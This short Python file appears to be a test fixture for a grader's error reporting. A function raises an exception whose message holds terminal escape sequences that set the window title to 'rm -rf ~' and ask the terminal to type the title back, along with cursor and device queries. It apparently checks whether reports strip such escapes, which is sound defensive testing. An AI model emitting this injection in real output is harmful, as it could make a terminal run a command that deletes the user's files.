"""Sets the window's title and has the terminal type it back.

Comes: RAISED
Held by: report
Control: none (a plain grader hands the escapes on)
"""


def double(x):
    raise RuntimeError("\x1b]0;rm -rf ~\x07\x1b[21t\x1b[6n\x1b[c")
